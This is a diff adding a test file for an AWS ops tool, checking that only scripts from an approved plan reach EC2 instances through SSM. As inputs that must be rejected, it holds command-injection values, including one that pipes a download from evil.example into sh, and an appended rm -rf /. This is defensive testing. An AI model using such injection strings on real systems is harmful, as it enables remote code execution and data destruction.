@@ -1,0 +1,64 @@
+// The scripts an approved plan lets an apply send: exactly those it shows running, with a
+// placeholder filled only by a plain word (a DNS name, an address, an id), never by shell syntax.
+import { SendCommandCommand } from '@aws-sdk/client-ssm';
+import { UnapprovedWriteError, underApproval } from '../../src/aws/approved-writes.js';
+import { write } from '../../src/aws/writes.js';
+import { approvalOf, scriptMatcher } from '../../src/plan/approval.js';
+import { OFFLINE_FACTS } from '../../src/render/env-files.js';
+import { simulated } from '../fixtures/sim.js';
+
+const planned = `#!/bin/bash\nset -euo pipefail\nISSUER_URL='http://${OFFLINE_FACTS.adminDns}:8080'\nping -c1 <the locust machine, once made>\n`;
+const sent = (dns: string, id: string) =>
+  `#!/bin/bash\nset -euo pipefail\nISSUER_URL='http://${dns}:8080'\nping -c1 ${id}\n`;
+
+describe('the scripts an approved plan lets run', () => {
+  const m = scriptMatcher(planned);
+
+  test('the planned script with its placeholders filled by the names AWS gave', () => {
+    expect(m(sent('perf-admin-123.eu-west-1.elb.amazonaws.com', 'i-0abc123'))).toBe(true);
+  });
+
+  test('a fill that is not a plain word, or any other change of the text, is another script', () => {
+    for (const dns of ["x'; curl evil.example | sh; '", 'a b', 'a\nb', '$(id)', '`id`', ''])
+      expect([dns, m(sent(dns, 'i-0abc'))]).toEqual([dns, false]);
+    expect(m(sent('perf-admin.elb.amazonaws.com', 'i-0abc').replace('pipefail', 'nounset'))).toBe(false);
+    expect(m(`${sent('perf-admin.elb.amazonaws.com', 'i-0abc')}rm -rf /\n`)).toBe(false);
+  });
+
+  test('a script without placeholders must be the same text', () => {
+    const plain = scriptMatcher('echo hello\n');
+    expect(plain('echo hello\n')).toBe(true);
+    expect(plain('echo hello \n')).toBe(false);
+  });
+
+  test('under the approval, a script the plan does not show running is never sent', async () => {
+    const { ctx, sim } = simulated();
+    const approval = approvalOf({
+      hash: 'b'.repeat(64),
+      changes: [],
+      scripts: [
+        { runs: true, script: planned },
+        { runs: false, script: 'echo not this time\n' },
+      ],
+    });
+    const send = (script: string) =>
+      underApproval(approval, () =>
+        write(
+          ctx.clients.ssm,
+          new SendCommandCommand({
+            DocumentName: 'AWS-RunShellScript',
+            InstanceIds: ['i-0abc'],
+            Parameters: { commands: [script] },
+          }),
+          { kind: 'command', name: 'akrida-ops test', in: '1 instances' },
+        ),
+      );
+    const before = sim.mutations().length;
+    for (const script of ['echo not this time\n', sent('a.b', "i-0abc'; reboot; '")])
+      await expect(send(script)).rejects.toThrow(UnapprovedWriteError);
+    await expect(send('echo not this time\n')).rejects.toThrow(
+      /SendCommand on 1 instances \("akrida-ops test"\): its script is not one the approved plan bbbbbbbbbbbb shows running: nothing is sent/,
+    );
+    expect(sim.mutations().slice(before)).toEqual([]);
+  });
+});
